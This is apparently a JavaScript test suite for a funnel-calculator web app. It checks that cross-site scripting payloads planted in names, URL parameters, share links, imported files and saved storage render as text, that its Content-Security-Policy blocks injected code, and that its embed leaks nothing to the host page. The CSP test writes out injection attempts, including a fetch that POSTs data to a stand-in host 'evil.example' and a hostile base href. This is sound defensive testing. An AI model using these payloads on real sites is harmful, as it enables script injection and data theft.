// Hostile input from every side: markup and script URLs planted wherever a string enters —
// names typed in, every URL parameter of the app, the embed and the configurator, URL
// fragments, share links and JSON files made by hand, a saved store — never runs and is
// shown as the text it is. The Content-Security-Policy is strict in the served pages and
// blocks injected code at run time. The embedded calculator tells its host page only its
// height and takes no orders from it. And no request leaves the app's origin, whatever
// one does. (share.spec.js, files.spec.js and embed-mode.spec.js check the names of a
// shared or imported scenario and one hostile set of embed parameters; this spec covers
// the rest.)
const crypto = require('node:crypto');
const fs = require('node:fs');
const path = require('node:path');
const { test, expect } = require('./support/test');
const { Tragt, encodeSharePayload } = require('./pages/tragt');
const { APP, hostUrl, frameIn, embedJsReady } = require('./support/host');
const { appOrigin, hostOrigin } = require('./support/origins');

test.skip(({ isMobile }) => isMobile, 'desktop only: escaping, policies and messages do not depend on the viewport');

/** What an attacker plants: an image that runs its onerror, a script URL, and a break-out of an attribute. */
const PAYLOADS = [
  '<img src=x onerror=window.__pwned=1>',
  'javascript:window.__pwned=1',
  '"><svg onload=window.__pwned=1>',
];
const [IMG, JS, SVG] = PAYLOADS;
const STORE_V4 = JSON.parse(fs.readFileSync(path.join(__dirname, '..', 'fixtures', 'store-v4.json'), 'utf8'));

/**
 * Everything planted markup would leave behind in a frame: the flag it sets, an <img
 * src=x>, an <svg>, any element with an on… handler attribute, a javascript: link, a
 * script mentioning the flag.
 */
async function traces(frame) {
  return frame.evaluate(() => ({
    pwned: window.__pwned,
    imgX: document.querySelectorAll('img[src="x"], img[onerror]').length,
    svgs: document.querySelectorAll('svg').length,
    handlers: [...document.querySelectorAll('*')]
      .filter((el) => [...el.attributes].some((a) => /^on/i.test(a.name))).map((el) => el.tagName),
    scriptLinks: [...document.querySelectorAll('[href], [src], [action]')]
      .filter((el) => /^\s*javascript:/i.test(el.getAttribute('href') || el.getAttribute('src') || el.getAttribute('action'))).length,
    scripts: [...document.scripts].filter((s) => s.textContent.includes('__pwned')).length,
  }));
}
const CLEAN = { pwned: undefined, imgX: 0, svgs: 0, handlers: [], scriptLinks: 0, scripts: 0 };

/** Asserts that nothing planted took effect in `frame`, once it has painted what it was sent. */
async function expectClean(frame, what) {
  await frame.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => done()))));
  expect(await traces(frame), what).toEqual(CLEAN);
}

/** Records the paths of every request of `page` (an <img src=x> would ask for /x). */
function requestedPaths(page) {
  const paths = [];
  page.on('request', (r) => paths.push(new URL(r.url()).pathname));
  return paths;
}

/** A copy of the v4 fixture's first scenario with hostile names (and `extra` fields on top). */
function hostileScenario(id, name, extra = {}) {
  const s = structuredClone(STORE_V4.scenarios[0]);
  s.id = id;
  s.name = name;
  s.stages = s.stages.map((st, i) => {
    const { template_stage: _, ...rest } = st;
    return { ...rest, name: [IMG, SVG, JS, `${IMG}${SVG}`, `${JS} ${'<b>'.repeat(60)}`][i % 5] };
  });
  return { ...s, ...extra };
}

/** Every string field of a scenario hostile: ids, names, and the fields that must be one of a few words. */
function everyStringHostile() {
  return {
    format: 'tragt',
    version: 4,
    current: SVG,
    scenarios: [
      hostileScenario(SVG, IMG, { mode: 'journey' }),
      hostileScenario(JS, JS, {
        template: IMG, currency: SVG, ltv_method: JS, period: IMG, mode: SVG, goal: { kind: IMG, value: 5 },
      }),
    ],
  };
}

// ---- strings typed into the app ----------------------------------------------------------------

test('markup typed into names is shown as text in every view that names a stage or a scenario', async ({ tragt, page }) => {
  const requests = requestedPaths(page);
  await tragt.open({ lang: 'en', template: 'webshop' });
  await tragt.renameScenario(IMG);
  for (let i = 0; i < 3; i += 1) await tragt.typeName(i, PAYLOADS[i]);
  await tragt.typeName(3, `${SVG}${IMG}`);
  // the forecasting views name stages too: people in a stage (pipeline), days (time), a goal's
  // needs (goal), a benchmark (leaks); each is checked while its view is open
  await tragt.openView('pipeline');
  await tragt.inStage(1, 'pipeline-now').fill('500');
  await expect(page.getByTestId('pipeline-value')).toHaveCount(1);
  await expectClean(page, 'the pipeline view');
  await tragt.openView('time');
  await tragt.inStage(1, 'stage-days').fill('3');
  await tragt.expectValue('out-days-to-purchase', 3);
  await expectClean(page, 'the time view');
  await tragt.openView('goal');
  await tragt.byId('goal-customers').fill('980');
  await expect(page.getByTestId('goal-required')).toHaveCount(5);
  await expectClean(page, 'the goal view');
  await tragt.openView('leaks');
  await tragt.inStage(2, 'stage-benchmark').fill('90');
  await expect(tragt.byId('bottleneck-weakest')).toHaveAttribute('data-stage', /\d/);
  await expectClean(page, 'the leaks view');

  // a second scenario, named like markup too, and the comparison of both
  await tragt.byId('scenario-duplicate').click();
  await tragt.renameScenario(SVG);
  await tragt.byId('compare-open').click();
  await expect(tragt.byId('view-compare')).toBeVisible();
  for (const pick of await tragt.byId('compare-pick').all()) await pick.check();
  await expect(tragt.byId('compare-table')).toBeVisible();
  await expect(tragt.byId('compare-table')).toContainText(IMG);
  await expect(tragt.byId('compare-table')).toContainText(SVG);
  await expectClean(page, 'the comparison');

  // the journey names every state in its rows, heat map, table and "brought back to"
  // (the comparison is a journey's view too: it stays open until the journey's is chosen)
  await tragt.choose(tragt.byId('mode-select'), 'journey');
  await tragt.openView('journey');
  await expect(tragt.byId('journey-row')).toHaveCount(5);
  const legends = await tragt.byId('journey-row').locator('legend').allTextContents();
  expect(legends.slice(0, 4)).toEqual([`1. ${IMG}`, `2. ${JS}`, `3. ${SVG}`, `4. ${SVG}${IMG}`]);
  await expect(tragt.byId('journey-matrix')).toContainText(`${SVG}${IMG}`);
  await expect(tragt.byId('journey-states')).toContainText(IMG);
  const targets = await tragt.byId('journey-recover-to').locator('option').allTextContents();
  expect(targets.join('\n')).toContain(JS);
  await tragt.byId('journey-recovery').fill('10');
  await expectClean(page, 'the journey');

  // a deletion names the scenario in its notice; another language renders every label again
  await tragt.byId('scenario-delete').click();
  await expect(tragt.notice()).toContainText(SVG);
  await tragt.selectLang('da');
  await expect(tragt.byId('scenario-name')).toHaveValue(IMG);
  expect(await tragt.selectedOptionText()).toBe(IMG);
  expect((await tragt.stageNames()).slice(0, 4)).toEqual([IMG, JS, SVG, `${SVG}${IMG}`]);
  await expectClean(page, 'after deleting and switching language');
  expect(requests, 'no image was requested').not.toContain('/x');
});

// ---- URL parameters and fragments ------------------------------------------------------------

/** Every parameter of README's tables (the app's and the embed's). */
const PARAMS = [
  'lang', 'template', 'embed', 'view', 'layout', 'sections', 'accent', 'logo', 'cta_text', 'cta_url', 'cta_summary', 'storage', 'ns',
];

for (const mode of ['full', 'embed']) {
  test(`${mode === 'full' ? 'the app' : 'the embed'}: every URL parameter set to each payload is ignored or shown as text`, async ({ tragt, page }) => {
    test.setTimeout(90_000);
    const requests = requestedPaths(page);
    for (const param of PARAMS) {
      for (const payload of PAYLOADS) {
        const query = new URLSearchParams(mode === 'embed' && param !== 'embed' ? { embed: '1' } : {});
        if (param === 'cta_text') query.set('cta_url', 'https://agency.example/contact'); // a button to show it on
        query.set(param, payload);
        await page.goto(`/?${query}`);
        await tragt.ready();
        await expectClean(page, `?${query}`);
        const cta = tragt.byId('cta');
        if (mode === 'embed' && param === 'cta_text') {
          await expect(cta, 'the text, as text').toHaveText(payload);
          await expect(cta.locator('*')).toHaveCount(0);
        } else {
          await expect(cta, `?${query}: no call to action`).toHaveCount(0);
        }
        // its links hold no script URL and no markup, whatever the parameters held
        for (const href of await page.locator('a[href]').evaluateAll((as) => as.map((a) => a.getAttribute('href')))) {
          expect(href, `?${query}`).toMatch(/^(?!\s*javascript:)[^\s"'<>]+$/i);
        }
      }
    }
    // the saved keys are the usual ones: no namespace was made of a payload
    expect(Object.keys(await tragt.storage()).every((k) => /^tragt\.(store|lang)$/.test(k)), 'usual keys only').toBe(true);
    expect(requests, 'no image was requested').not.toContain('/x');
  });
}

test('payloads in the URL fragment, and in the configurator\'s URL, never run', async ({ tragt, page }) => {
  await tragt.open({ lang: 'en', template: 'b2b' });
  await tragt.renameScenario('Mine');
  await tragt.waitForSave((s) => s.scenarios.some((x) => x.name === 'Mine'));
  for (const payload of PAYLOADS) {
    for (const hash of [`#${payload}`, `#s=${payload}`, `#x=1&s=${payload}&s=2`, `#${encodeURIComponent(payload)}`]) {
      await page.goto('about:blank');
      await page.goto(`/?lang=en${hash}`);
      await tragt.ready();
      await expect(tragt.byId('scenario-name')).toHaveValue('Mine');
      await expectClean(page, hash);
      // pasted into the open app, too
      await page.evaluate((h) => { location.hash = h; }, hash);
      await expect(tragt.byId('scenario-name')).toHaveValue('Mine');
      await expectClean(page, `${hash}, pasted`);
    }
  }
  for (const payload of PAYLOADS) {
    await page.goto(`/embed.html?${new URLSearchParams({ lang: payload })}#${payload}`);
    await expect(page.getByTestId('cfg-snippet')).toHaveValue(/<iframe/);
    await expectClean(page, `embed.html?lang=${payload}`);
  }
});

test('the configurator: payloads in its fields stay out of the code\'s markup and show as text in the preview', async ({ page }) => {
  const SNIPPET = /^<iframe data-tragt src="([^"<>]+)" title="([^"<>]+)"><\/iframe>\n<script src="([^"<>]+)" async><\/script>$/;
  await page.goto('/embed.html?lang=en');
  for (const payload of PAYLOADS) {
    await page.getByTestId('cfg-cta-url').fill('https://agency.example/contact');
    await page.getByTestId('cfg-cta-text').fill(payload);
    for (const id of ['cfg-accent', 'cfg-logo', 'cfg-ns']) await page.getByTestId(id).fill(payload);
    const code = await page.getByTestId('cfg-snippet').inputValue();
    const m = SNIPPET.exec(code);
    expect(m, `the code keeps its shape:\n${code}`).not.toBeNull();
    const src = new URL(m[1].replace(/&amp;/g, '&'));
    expect(src.searchParams.get('cta_text'), 'the text travels URL-encoded').toBe(payload);
    for (const param of ['accent', 'logo', 'ns']) expect(src.searchParams.has(param), `${param} left out`).toBe(false);
    await expectClean(page, `configurator, ${payload}`);

    // the preview shows it as text
    await expect.poll(async () => new URL(await page.getByTestId('cfg-preview').getAttribute('src')).searchParams.get('cta_text'))
      .toBe(payload);
    const preview = new Tragt(await frameIn(page, 'cfg-preview', 'embed=1'));
    await preview.ready();
    await expect(preview.byId('cta')).toHaveText(payload);
    await expectClean(preview.page, `preview, ${payload}`);
  }
});

// ---- share links, files and saved data made by hand --------------------------------------------

test('a share link made by hand with hostile names opens them as text', async ({ newVisitor }) => {
  const doc = { format: 'tragt', version: 4, current: 'x', scenarios: [hostileScenario('x', SVG, { mode: 'journey' })] };
  const link = `${APP}?lang=en#s=${encodeSharePayload(JSON.stringify(doc))}`;
  const visitor = await newVisitor();
  const requests = requestedPaths(visitor.page);
  await visitor.page.goto(link);
  await visitor.ready();
  await expect.poll(() => visitor.selectedOptionText()).toBe(`${SVG} (not saved)`);
  await expect(visitor.byId('scenario-name')).toHaveValue(SVG);
  expect(await visitor.stageNames()).toEqual(doc.scenarios[0].stages.map((s) => s.name.slice(0, 120)));
  await expect(visitor.page.getByText(`“${SVG}”`)).toBeVisible(); // the banner names it
  await expect(visitor.byId('journey-row').first().locator('legend')).toHaveText(`1. ${IMG}`);
  await expectClean(visitor.page, 'a hostile share link');
  await visitor.byId('share-save').click();
  await visitor.waitForSave((s) => s.scenarios.some((x) => x.name === SVG));
  await visitor.reload();
  await expect(visitor.byId('scenario-name')).toHaveValue(SVG);
  await expectClean(visitor.page, 'the saved copy');
  expect(requests).not.toContain('/x');
});

test('a share link with every string hostile (ids, and words like the currency) opens with defaults, nothing runs', async ({ newVisitor }) => {
  const doc = everyStringHostile();
  for (const scenario of doc.scenarios) {
    const one = { ...doc, current: scenario.id, scenarios: [scenario] };
    const visitor = await newVisitor();
    await visitor.page.goto(`${APP}?lang=en#s=${encodeSharePayload(JSON.stringify(one))}`);
    await visitor.ready();
    await expect.poll(() => visitor.selectedOptionText()).toBe(`${scenario.name} (not saved)`);
    await expect(visitor.byId('currency-select')).toHaveValue(/^(DKK|SEK|NOK|EUR|USD)$/);
    await expect(visitor.byId('template-select')).toHaveValue(/^[a-z]+$/);
    await expect(visitor.byId('ltv-method')).toHaveValue(/^(simple|retention)$/);
    await expect(visitor.byId('mode-select')).toHaveValue(/^(funnel|journey)$/);
    await expectClean(visitor.page, `share link of ${scenario.name}`);
  }
});

test('a JSON file with every string hostile is imported as text, under ids of its own', async ({ tragt, page }) => {
  const requests = requestedPaths(page);
  await tragt.open({ lang: 'en', template: 'aida' });
  const doc = everyStringHostile();
  await tragt.importFile(`${JS}.json`, JSON.stringify(doc));
  await expect(tragt.notice()).toContainText('Imported 2 scenario(s)');
  const list = await tragt.scenarios();
  expect(list.map((s) => s.name).slice(1)).toEqual([IMG, JS]);
  for (const s of list) expect(PAYLOADS, 'no id taken from the file').not.toContain(s.id);
  await expect(tragt.byId('scenario-name')).toHaveValue(IMG);
  await expectClean(page, 'after the import');
  // the hostile words fell back to ones the app knows
  await tragt.switchScenario(list[2].id);
  await expect(tragt.byId('currency-select')).toHaveValue(/^(DKK|SEK|NOK|EUR|USD)$/);
  await expect(tragt.byId('period-select')).toHaveValue(/^[a-z]+$/);
  await expect(tragt.stages()).toHaveCount(5);
  await tragt.byId('compare-open').click();
  await expect(tragt.byId('view-compare')).toBeVisible();
  for (const pick of await tragt.byId('compare-pick').all()) await pick.check();
  await expect(tragt.byId('compare-table')).toContainText(JS);
  await expectClean(page, 'comparing the imported scenarios');
  expect(requests).not.toContain('/x');
});

test('a saved store with hostile names, ids and language opens them as text', async ({ tragt, page }) => {
  await tragt.open({ lang: 'en' });
  const doc = everyStringHostile();
  await page.evaluate(({ store, lang }) => {
    localStorage.clear();
    localStorage.setItem('tragt.store', store);
    localStorage.setItem('tragt.lang', lang);
  }, { store: JSON.stringify(doc), lang: IMG });
  await page.goto('/');
  await tragt.ready();
  await expect(page.locator('html')).toHaveAttribute('lang', /^(en|da|sv)$/);
  expect((await tragt.scenarios()).map((s) => s.name)).toEqual([IMG, JS]);
  await expect(tragt.byId('scenario-name')).toHaveValue(IMG);
  await expect(tragt.byId('journey-row').nth(2).locator('legend')).toHaveText(`3. ${JS}`);
  await expectClean(page, 'a hostile saved store');
});

// ---- the Content-Security-Policy --------------------------------------------------------------

/** A page's CSP meta tag, parsed: {directive: [sources]}, and where in the HTML it sits. */
function cspOf(html) {
  const m = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"\s*\/?>/i.exec(html);
  expect(m, 'a CSP <meta>').not.toBeNull();
  const policy = {};
  for (const part of m[1].split(';').map((p) => p.trim()).filter(Boolean)) {
    const [name, ...sources] = part.split(/\s+/);
    expect(policy, `${name} is given once`).not.toHaveProperty(name);
    policy[name] = sources;
  }
  return { policy, at: m.index };
}

for (const file of ['index.html', 'embed.html']) {
  test(`the served ${file} has a strict CSP before anything it loads`, async ({ request }) => {
    const response = await request.get(`/${file === 'index.html' ? '' : file}`);
    expect(response.ok()).toBe(true);
    const html = await response.text();
    const { policy, at } = cspOf(html);
    const scripts = policy['script-src'] || policy['default-src'];
    expect(scripts, 'script-src').toBeTruthy();
    for (const bad of ["'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", "'strict-dynamic'", '*', 'data:', 'blob:', 'http:', 'https:']) {
      expect(scripts, `script-src without ${bad}`).not.toContain(bad);
    }
    expect(scripts.every((s) => ["'self'", "'wasm-unsafe-eval'"].includes(s) || /^'sha256-[A-Za-z0-9+/]{43}='$/.test(s)),
      `only 'self', wasm and hashes: ${scripts.join(' ')}`).toBe(true);
    expect(policy['object-src']).toEqual(["'none'"]);
    expect(policy['base-uri'], 'base-uri').toBeDefined();
    expect(["'self'", "'none'"]).toContain(policy['base-uri'].join(' '));
    expect(policy['default-src']).toEqual(["'self'"]);
    expect(policy['form-action']).toEqual(["'none'"]);
    expect(policy['style-src'], 'no inline styles').not.toContain("'unsafe-inline'");

    // the hashes are exactly those of the page's inline scripts
    const inline = [...html.matchAll(/<script(?![^>]*\bsrc=)[^>]*>([\s\S]*?)<\/script>/gi)].map((s) => s[1]);
    const hashes = inline.map((text) => `'sha256-${crypto.createHash('sha256').update(text, 'utf8').digest('base64')}'`);
    expect(scripts.filter((s) => s.startsWith("'sha256-")).sort(), 'one hash per inline script, no stale ones').toEqual(hashes.sort());
    // a policy in a <meta> covers only what comes after it
    const first = html.search(/<(script|link|style|base|iframe|object)\b/i);
    expect(first, 'something is loaded').toBeGreaterThan(-1);
    expect(at, 'the CSP <meta> comes before every script, link, style and base').toBeLessThan(first);
    expect(html, 'no inline handlers in the served page').not.toMatch(/\son[a-z]+\s*=/i);
  });
}

test.describe('code injected at run time', () => {
  // exactly the violations this test provokes; any other still fails it
  test.use({
    expectedCspViolations: new RegExp(`^(${[
      'script-src-elem blocked inline', 'script-src-attr blocked inline', 'script-src blocked eval',
      'base-uri blocked https://evil\\.example/', 'object-src blocked http://127\\.0\\.0\\.1:\\d+/icon\\.svg',
      'style-src-elem blocked inline', 'style-src-attr blocked inline', 'connect-src blocked https://evil\\.example/x',
      'worker-src blocked blob', 'frame-src blocked \\(inline\\)', 'form-action blocked http://127\\.0\\.0\\.1:\\d+/collect\\?',
    ].join('|')}) at `),
  });

  for (const file of ['/?lang=en', '/embed.html?lang=en']) {
    test(`is blocked by the CSP of ${file}`, async ({ page, cspReports }) => {
      await page.goto(file);
      await expect(page.locator('body')).toBeVisible();
      if (file.startsWith('/?')) await new Tragt(page).ready();
      const before = page.url();
      const result = await page.evaluate(async () => {
        const out = {};
        const add = (el, where = document.body) => where.append(el);
        const script = document.createElement('script');
        script.textContent = 'window.__pwned = "inline script"';
        add(script, document.head);
        const button = document.createElement('button');
        button.setAttribute('onclick', 'window.__pwned = "handler"');
        add(button);
        button.click();
        const link = document.createElement('a');
        link.href = 'javascript:window.__pwned="javascript: URL"';
        add(link);
        link.click();
        // eval and its kin, from the page's own task (code run by the test's driver may eval)
        await new Promise((resolve) => setTimeout(() => {
          try { eval('window.__pwned = "eval"'); } catch (e) { out.eval = e.name; }
          try { new Function('window.__pwned = "Function"')(); } catch (e) { out.Function = e.name; }
          setTimeout('window.__pwned = "setTimeout string"', 0);
          resolve();
        }, 0));
        const base = document.createElement('base');
        base.href = 'https://evil.example/';
        document.head.prepend(base);
        out.baseURI = document.baseURI;
        const object = document.createElement('object');
        object.data = 'icon.svg';
        add(object);
        const style = document.createElement('style');
        style.textContent = 'body { display: none }';
        add(style, document.head);
        const styled = document.createElement('p');
        styled.setAttribute('style', 'display: none');
        styled.id = 'styled';
        add(styled);
        const frame = document.createElement('iframe');
        frame.src = 'data:text/html,<script>parent.__pwned = "frame"<\/script>';
        add(frame);
        try { await fetch('https://evil.example/x', { method: 'POST', body: 'figures' }); } catch (e) { out.fetch = e.name; }
        try { new Worker(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))); } catch (e) { out.worker = e.name; }
        return out;
      });
      expect(result).toEqual({ eval: 'EvalError', Function: 'EvalError', baseURI: before, fetch: 'TypeError' });
      // and the app still calculates
      if (file.startsWith('/?')) {
        const tragt = new Tragt(page);
        await tragt.typeCount(0, '12345');
        await tragt.expectStageValue(0, 'stage-entrants', 12345);
      }
      // a form sends nothing anywhere (last: the driver then waits for a navigation that never comes)
      expect(await page.evaluate(async () => {
        const form = document.createElement('form');
        form.action = '/collect';
        document.body.append(form);
        form.submit();
        return location.href;
      }), 'the form went nowhere').toBe(before);

      // each attempt was reported as the policy's
      const directives = () => [...new Set(cspReports.map((r) => r.split(' ')[0]))].sort();
      await expect.poll(directives).toEqual([
        'base-uri', 'connect-src', 'form-action', 'frame-src', 'object-src', 'script-src', 'script-src-attr', 'script-src-elem',
        'style-src-attr', 'style-src-elem', 'worker-src',
      ]);
      // every attempt has been refused by now: none of them ran, and the page is where it was
      expect(await page.evaluate(() => ({
        pwned: window.__pwned,
        bodyShown: getComputedStyle(document.body).display !== 'none',
        styledShown: getComputedStyle(document.getElementById('styled')).display !== 'none',
        href: location.href,
      }))).toEqual({ pwned: undefined, bodyShown: true, styledShown: true, href: before });
    });
  }
});

// ---- what the embed tells its host page, and what it takes from it ------------------------------

/** Opens one-embed.html (on the host origin) with the app embedded, recording every message the host receives. */
async function embedOnHost(page, query = 'embed=1&lang=en&template=webshop') {
  await page.addInitScript((host) => {
    if (location.origin !== host) return;
    window.__received = [];
    window.addEventListener('message', (e) => {
      const frame = [...document.querySelectorAll('iframe')].find((f) => f.contentWindow === e.source);
      let data;
      try {
        data = JSON.parse(JSON.stringify(e.data));
      } catch {
        data = String(e.data);
      }
      window.__received.push({ from: frame ? frame.id : null, origin: e.origin, data });
    });
  }, hostOrigin);
  await page.goto(hostUrl('one-embed.html', { a: `?${query}` }));
  await embedJsReady(page);
  const app = new Tragt(await frameIn(page, 'host-frame-a', 'embed=1'));
  await app.ready();
  return app;
}

const received = (page) => page.evaluate(() => window.__received);

/** Every message is the height message, from the embed, and nothing else. */
function expectOnlyHeights(messages) {
  expect(messages.length, 'the embed reported its height').toBeGreaterThan(0);
  for (const m of messages) {
    expect(m.from).toBe('a');
    expect(m.origin).toBe(appOrigin);
    expect(Object.keys(m.data).sort()).toEqual(['height', 'type']);
    expect(m.data.type).toBe('tragt:height');
    expect(Number.isInteger(m.data.height) && m.data.height > 0 && m.data.height < 100_000, `height ${m.data.height}`).toBe(true);
  }
}

test('through a whole session of edits, the embed posts its host page its height and nothing else', async ({ page }) => {
  // an embed offers the journey's view when its sections name it
  const app = await embedOnHost(page, 'embed=1&lang=en&template=webshop&sections=journey');
  await app.renameScenario('Secret plan Q9');
  await app.typeName(1, 'Secret stage');
  await app.typeCount(0, '987654');
  await app.typeRate(2, '12.5');
  await app.setMoney({ spend: 31337, aov: 2718, margin: 61 });
  await app.selectCurrency('EUR');
  await app.addStage();
  await app.selectTemplate('b2b');
  await app.choose(app.byId('mode-select'), 'journey');
  await expect(app.byId('view-journey')).toBeVisible();
  await app.byId('journey-recovery').fill('7');
  await app.selectLang('sv');
  await app.byId('scenario-duplicate').click();
  await app.byId('scenario-delete').click();
  await expect.poll(async () => (await received(page)).length).toBeGreaterThan(1);
  const messages = await received(page);
  expectOnlyHeights(messages);
  const all = JSON.stringify(messages);
  for (const secret of ['Secret', '987654', '31337', '2718', 'EUR', 'b2b', 'journey', 'sv']) expect(all).not.toContain(secret);
});

test('the embed takes no orders from its host page, and answers only "measure" from its parent', async ({ page }) => {
  const app = await embedOnHost(page);
  await app.renameScenario('Mine');
  await app.typeCount(0, '4321');
  await app.waitForSave((s) => JSON.stringify(s).includes('4321'));
  const view = await app.scenarioView();
  const stored = async () => app.page.evaluate(() => ({ local: { ...localStorage }, session: { ...sessionStorage }, hash: location.hash, lang: document.documentElement.lang }));
  const before = await stored();
  const frame = page.getByTestId('host-frame-a');

  /** Posts from the host page to the embed; then a "measure" as a fence, and waits for its answer. */
  const count = async () => (await received(page)).length;
  const fence = async () => {
    const n = await count();
    await frame.evaluate((f) => f.contentWindow.postMessage({ type: 'tragt:measure' }, '*'));
    await expect.poll(count, { message: 'the embed answers "measure" with its height' }).toBe(n + 1);
  };
  await fence();

  const store = JSON.stringify({ ...STORE_V4, scenarios: [hostileScenario('z', IMG)], current: 'z' });
  const share = `#s=${encodeSharePayload(store)}`;
  const orders = [
    { type: 'set', scenario: { name: IMG, top: 1 } },
    { type: 'tragt:set', field: 'input-spend', value: 1 },
    { type: 'tragt:import', data: store },
    { type: 'tragt:store', store },
    { type: 'tragt:lang', lang: 'da' },
    { type: 'tragt:height', height: 5 },
    { type: 'tragt:navigate', url: `${APP}${share}` },
    { type: 'skip-waiting' },
    { type: 'tragt:update-apply' },
    { hash: share },
    share,
    `{"type":"tragt:import","data":${JSON.stringify(store)}}`,
    'tragt:measure',
    IMG,
    null,
    42,
    ['tragt:measure'],
    { type: ['tragt:measure'] },
    { type: { toString: 'tragt:measure' } },
  ];
  const n = await count();
  await frame.evaluate((f, list) => {
    for (const data of list) f.contentWindow.postMessage(data, '*');
  }, orders);
  // a port, too: nothing may be listening on it
  await frame.evaluate((f) => {
    const channel = new MessageChannel();
    window.__replies = [];
    channel.port1.onmessage = (e) => window.__replies.push(e.data);
    f.contentWindow.postMessage({ type: 'tragt:measure', reply: true }, '*', [channel.port2]);
  });
  await expect.poll(count).toBe(n + 1); // the one "measure" above
  await fence();
  expect(await page.evaluate(() => window.__replies)).toEqual([]);

  // "measure" from a window that is not its parent is ignored: a sibling frame on the host's origin
  await page.evaluate(() => {
    const sibling = document.createElement('iframe');
    sibling.id = 'sibling';
    document.querySelector('main').append(sibling);
  });
  const sibling = page.frames().find((f) => f.parentFrame() === page.mainFrame() && f.url() === 'about:blank');
  const m = await count();
  await sibling.evaluate(() => parent.frames[0].postMessage({ type: 'tragt:measure' }, '*'));
  await app.page.evaluate(() => window.postMessage({ type: 'tragt:measure' }, '*')); // and from itself
  await fence();
  expect(await count(), 'only the fence was answered').toBe(m + 1);

  expectOnlyHeights(await received(page));
  await app.flushSaves(); // a change would be saved now
  expect(await app.scenarioView(), 'the scenario is unchanged').toEqual(view);
  expect(await stored(), 'storage, fragment and language are unchanged').toEqual(before);
  await expect(app.notice()).toBeEmpty();
  await expectClean(app.page, 'the embed');
});

// ---- nothing leaves the origin ----------------------------------------------------------------

test('no request leaves the origin in any journey: templates, languages, sharing, files, comparison, embed, configurator, offline', async ({ page, context, tragt }) => {
  test.setTimeout(90_000);
  const log = [];
  context.on('request', (r) => log.push(r.url()));
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: appOrigin });

  await tragt.open({ lang: 'en' });
  await page.evaluate(() => navigator.serviceWorker.ready);
  await expect.poll(() => page.evaluate(() => !!navigator.serviceWorker.controller)).toBe(true);
  for (const template of ['aida', 'kobstragt', 'kundresan', 'hexagon', 'readiness', 'kopvagen', 'webshop', 'b2b', 'blank']) {
    await tragt.selectTemplate(template);
    await expect(tragt.byId('template-select')).toHaveValue(template);
  }
  for (const lang of ['da', 'sv', 'en']) await tragt.selectLang(lang);
  await tragt.typeCount(0, '5000');
  await tragt.openView('goal');
  await tragt.byId('goal-customers').fill('20');
  await tragt.openView('uncertainty');
  await tragt.inStage(1, 'stage-rate-low').fill('10');
  await tragt.inStage(1, 'stage-rate-high').fill('60');
  await tragt.openView('referrals');
  await tragt.byId('input-referrals').fill('0.5');
  const link = await tragt.shareLink();
  await tragt.byId('share-copy').click();
  for (const id of ['export-json', 'export-all', 'export-csv']) await tragt.download(id);
  await tragt.importFile('again.json', (await tragt.download('export-json')).text);
  await tragt.byId('compare-open').click();
  await expect(tragt.byId('view-compare')).toBeVisible();
  await tragt.choose(tragt.byId('mode-select'), 'journey');
  await tragt.openView('journey');
  await expect(tragt.byId('journey-row').first()).toBeVisible();

  // the link in another tab; the embed with every parameter; the configurator and its preview
  const tab = new Tragt(await context.newPage());
  await tab.page.goto(link);
  await tab.ready();
  await tab.byId('share-save').click();
  await tab.page.goto(`/?${new URLSearchParams({
    embed: '1', lang: 'da', template: 'b2b', accent: '#c0392b', logo: 'icon.svg', cta_text: 'Ring',
    cta_url: 'https://agency.example/ring', cta_summary: '1', storage: 'session', ns: 'shop',
  })}`);
  await tab.ready();
  await expect(tab.page.locator('img.embed-logo')).toBeVisible();
  await tab.page.goto('/embed.html?lang=sv');
  await tab.page.getByTestId('cfg-template').selectOption('hexagon');
  await tab.page.getByTestId('cfg-accent').fill('teal');
  const preview = new Tragt(await frameIn(tab.page, 'cfg-preview', 'hexagon'));
  await preview.ready();
  await tab.page.getByTestId('cfg-copy').click();

  // offline: the app from the service worker's cache
  await context.setOffline(true);
  await page.reload();
  await tragt.ready();
  await context.setOffline(false);

  // what the pages themselves saw loading (a second witness), and what the service worker keeps
  for (const p of context.pages()) {
    for (const f of p.frames()) {
      log.push(...await f.evaluate(() => performance.getEntriesByType('resource').map((e) => e.name)).catch(() => []));
    }
  }
  log.push(...await page.evaluate(async () => {
    const urls = [navigator.serviceWorker.controller.scriptURL];
    for (const name of await caches.keys()) urls.push(...(await (await caches.open(name)).keys()).map((r) => r.url));
    return urls;
  }));

  const foreign = log.filter((url) => {
    const u = new URL(url);
    return !(u.origin === appOrigin || u.protocol === 'data:' || u.protocol === 'blob:');
  });
  expect(foreign, 'every request goes to the app\'s origin (or is data:/blob:)').toEqual([]);
  for (const part of ['.wasm', '/locales/da.json', '/locales/sv.json', '/sw.js', '/manifest.webmanifest', '/embed.js', '/embed-config.js', '/icon.svg']) {
    expect(log.some((url) => url.includes(part)), `the log has ${part}: it saw the journeys`).toBe(true);
  }
});
